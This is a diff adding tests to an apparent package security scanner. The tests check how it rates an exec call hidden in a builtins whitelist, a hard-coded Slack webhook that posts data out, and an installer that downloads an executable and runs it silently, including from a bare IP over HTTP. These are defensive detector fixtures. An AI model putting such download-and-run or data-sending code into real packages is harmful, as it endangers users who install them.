@@ -199,3 +199,35 @@ def test_builtins_whitelist_over_constant_names_is_not_hiding(tmp_path: Path) ->
     assert _worst(_scan(tmp_path / "a", files={"demo/__init__.py": safe}), "PW111") is None
     unsafe = safe.replace('"sorted"', '"exec"') + "SAFE['exec']('print(1)')\n"
     assert _worst(_scan(tmp_path / "b", files={"demo/__init__.py": unsafe}), "PW111") == Severity.HIGH
+
+
+def test_webhook_in_documentation_is_an_example(tmp_path: Path) -> None:
+    hook = "https://hooks.slack.com/services/T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ"
+    documented = f'"""Slack notifications.\n\nUse a webhook such as {hook}\n"""\nimport requests\n\n' \
+                 "def notify(url, text):\n    requests.post(url, json={'text': text})\n"
+    assert _worst(_scan(tmp_path / "a", files={"demo/__init__.py": documented}), "PW132") is None
+    hard_coded = (f"import requests\n\nHOOK = '{hook}'\n\n"
+                  "def notify(text):\n    requests.post(HOOK, json={'text': text})\n")
+    assert _worst(_scan(tmp_path / "b", files={"demo/__init__.py": hard_coded}), "PW132") == Severity.HIGH
+
+
+INSTALLER = '''
+import subprocess
+import requests
+
+
+def install_toolchain():
+    data = requests.get("{url}").content
+    with open("setup-tool.exe", "wb") as fh:
+        fh.write(data)
+    subprocess.run(["setup-tool.exe", "/quiet"])
+'''
+
+
+def test_installer_fetched_over_https_on_request_is_a_warning(tmp_path: Path) -> None:
+    tls = INSTALLER.format(url="https://downloads.example.org/tools/setup-tool.exe")
+    def worst(folder: str, source: str) -> Severity | None:
+        return _worst(_scan(tmp_path / folder, files={"demo/__init__.py": "", "demo/tool.py": source}), "PW118")
+
+    assert worst("a", tls) == Severity.MEDIUM
+    assert worst("b", INSTALLER.format(url="http://203.0.113.9:8080/setup-tool.exe")) == Severity.HIGH
